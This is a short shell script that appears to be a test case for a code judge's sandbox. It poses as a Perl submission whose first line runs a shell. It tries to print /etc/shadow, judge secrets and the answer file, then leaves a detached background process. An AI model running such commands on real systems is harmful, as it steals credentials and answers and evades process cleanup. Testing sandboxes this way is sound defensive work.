#!/bin/sh
# Attacks: the check of Perl sources: perl starts the interpreter that the first line names, and this is a shell's.
for file in '@SECRET@' /etc/shadow /program/secret.h /judge/answer; do cat "$file"; done
(setsid sleep 1000 &)
exit 0
